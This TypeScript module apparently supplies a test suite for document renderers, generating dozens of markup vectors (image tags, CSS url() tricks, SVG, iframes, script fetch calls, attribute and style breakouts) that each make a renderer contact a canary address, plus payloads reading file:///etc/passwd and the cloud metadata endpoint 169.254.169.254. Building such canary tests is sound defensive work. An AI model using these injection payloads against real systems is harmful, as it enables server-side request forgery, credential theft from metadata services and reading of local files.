type Vector = (url: string) => string;

const script = (code: string): string => `<script>${code}</script>`;
const style = (css: string): string => `<style>${css}</style>`;
const svg = (content: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${content}</svg>`;
const inSvgImage = (content: string): string =>
  `<img src="data:image/svg+xml,${encodeURIComponent(svg(content))}">`;

/** Ways by which a document could make a browser ask `url` for something, or read a file. One canary address each. */
export const markupVectors: Readonly<Record<string, Vector>> = {
  image: (url) => `<img src="${url}">`,
  'image srcset': (url) => `<img srcset="${url} 1x, ${url}?2 2x">`,
  'image broken out of an attribute': (url) => `"><img src='${url}'>`,
  'image in a picture': (url) => `<picture><source srcset="${url}"><img></picture>`,
  'image onerror': (url) => `<img src="data:x" onerror="fetch('${url}')">`,
  'lazy image': (url) => `<img loading="eager" decoding="sync" src="${url}">`,
  'input image': (url) => `<input type="image" src="${url}">`,
  'table background': (url) => `<table background="${url}"><tr><td>x</table>`,
  'cell background': (url) => `<table><tr><td background="${url}">x</table>`,
  'body background': (url) => `</div><body background="${url}">`,
  stylesheet: (url) => `<link rel="stylesheet" href="${url}">`,
  preload: (url) => `<link rel="preload" as="image" href="${url}">`,
  prefetch: (url) => `<link rel="prefetch" href="${url}">`,
  modulepreload: (url) => `<link rel="modulepreload" href="${url}">`,
  prerender: (url) => `<link rel="prerender" href="${url}">`,
  preconnect: (url) => `<link rel="preconnect" href="${url}">`,
  'dns-prefetch': (url) => `<link rel="dns-prefetch" href="${url}">`,
  icon: (url) => `<link rel="icon" href="${url}">`,
  manifest: (url) => `<link rel="manifest" href="${url}">`,
  base: (url) => `<base href="${url}/"><img src="relative">`,
  'CSS import': (url) => style(`@import url("${url}");`),
  'CSS font': (url) =>
    `${style(`@font-face{font-family:canary;src:url("${url}")}`)}<p style="font-family:canary">x`,
  'CSS background': (url) => `<p style="background-image:url('${url}')">x`,
  'CSS image-set': (url) => `<p style="background-image:image-set(url('${url}') 1x)">x`,
  'CSS mask': (url) => `<p style="mask-image:url('${url}')">x`,
  'CSS content': (url) => `${style(`.canary::before{content:url("${url}")}`)}<p class="canary">x`,
  'CSS list': (url) => `<ul style="list-style-image:url('${url}')"><li>x</ul>`,
  'CSS border': (url) => `<p style="border:3px solid;border-image-source:url('${url}')">x`,
  'CSS shape': (url) => `<p style="float:left;shape-outside:url('${url}')">x`,
  'CSS filter': (url) => `<p style="filter:url('${url}#f')">x`,
  'CSS clip path': (url) => `<p style="clip-path:url('${url}#c')">x`,
  'CSS cursor': (url) => `<p style="cursor:url('${url}'),auto">x`,
  'CSS page margin': (url) => style(`@page{@top-center{content:url("${url}")}}`),
  'CSS page background': (url) => style(`@page{background:url("${url}")}`),
  'CSS closed from a string': (url) => `"; } .doc { background: url(${url}) } a { content: "`,
  'CSS escape': (url) => `\\"; } @page { @top-center { content: url(${url}) } } /*`,
  'style end': (url) => `</style><img src="${url}">`,
  'comment end': (url) => `--><img src="${url}"><!--`,
  iframe: (url) => `<iframe src="${url}"></iframe>`,
  'iframe srcdoc': (url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`,
  'iframe data': (url) => `<iframe src="data:text/html,<img src='${url}'>"></iframe>`,
  frameset: (url) => `<frameset><frame src="${url}"></frameset>`,
  object: (url) => `<object data="${url}"></object>`,
  embed: (url) => `<embed src="${url}">`,
  applet: (url) => `<applet code="x" archive="${url}"></applet>`,
  portal: (url) => `<portal src="${url}"></portal>`,
  video: (url) => `<video autoplay muted src="${url}" poster="${url}?poster"></video>`,
  audio: (url) => `<audio autoplay src="${url}"></audio>`,
  track: (url) => `<video><track default src="${url}"></video>`,
  'SVG image': (url) => svg(`<image href="${url}" width="9" height="9"/>`),
  'SVG xlink image': (url) => svg(`<image xlink:href="${url}" width="9" height="9"/>`),
  'SVG use': (url) => svg(`<use href="${url}#x"/>`),
  'SVG feImage': (url) =>
    svg(
      `<filter id="f"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
    ),
  'SVG foreignObject': (url) =>
    svg(
      `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url}"></iframe></foreignObject>`,
    ),
  'SVG script': (url) => svg(`<script href="${url}"/>`),
  'SVG onload': (url) => `<svg onload="fetch('${url}')">`,
  'SVG stylesheet': (url) => svg(`<style>@import url("${url}");</style>`),
  'SVG in an image': (url) => inSvgImage(`<image href="${url}" width="9" height="9"/>`),
  'SVG script in an image': (url) => inSvgImage(`<script>fetch("${url}")</script>`),
  MathML: (url) => `<math href="${url}"><mi>x</mi></math>`,
  'external script': (url) => `<script src="${url}"></script>`,
  'module script': (url) => `<script type="module">import "${url}"</script>`,
  fetch: (url) => script(`fetch("${url}",{mode:"no-cors"})`),
  XHR: (url) => script(`var x=new XMLHttpRequest();x.open("GET","${url}");x.send()`),
  WebSocket: (url) => script(`new WebSocket("${url.replace('http', 'ws')}")`),
  EventSource: (url) => script(`new EventSource("${url}")`),
  beacon: (url) => script(`navigator.sendBeacon("${url}","x")`),
  worker: (url) => script(`new Worker(URL.createObjectURL(new Blob(['fetch("${url}")'])))`),
  'new window': (url) => script(`window.open("${url}")`),
  'script navigation': (url) => script(`location.href="${url}"`),
  'script in an attribute': (url) =>
    `<details open ontoggle="fetch('${url}')"><summary>x</details>`,
  'autofocus handler': (url) => `<input autofocus onfocus="fetch('${url}')">`,
  'javascript link': (url) => `<a href="javascript:fetch('${url}')" ping="${url}">x</a>`,
  'javascript frame': (url) => `<iframe src="javascript:parent.fetch('${url}')"></iframe>`,
  form: (url) =>
    `<form action="${url}"><button autofocus>x</button></form>${script('document.forms[0].submit()')}`,
  'meta refresh': (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  'meta policy': (url) =>
    `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${url}">`,
  'local file frame': () => '<iframe src="file:///etc/passwd"></iframe>',
  'local file object': () => '<object data="file:///etc/passwd" type="text/plain"></object>',
  'local file image': () => '<img src="file:///etc/passwd"><embed src="file:///etc/passwd">',
  'local file refresh': () => '<meta http-equiv="refresh" content="0;url=file:///etc/passwd">',
  'metadata service': () => '<iframe src="http://169.254.169.254/latest/meta-data/"></iframe>',
};

export const vectorNames = Object.keys(markupVectors);

/** These lead the page away, or swallow what stands behind them, so each needs a page of its own. */
const apart = /refresh|navigation|form|window|comment/;
export const vectorsApart = vectorNames.filter((name) => apart.test(name));
export const vectorsForOnePage = vectorNames.filter((name) => !apart.test(name));

/** One vector, aimed at an address of its own below `address`. */
export function markupFor(name: string, address: string): string {
  return markupVectors[name]?.(`${address}/${encodeURIComponent(name)}`) ?? '';
}

/** Some of them as the content of a page, none inside of another. */
export function markupOfPage(names: readonly string[], address: string): string {
  return names.map((name) => `<div>${markupFor(name, address)}</div>`).join('\n');
}
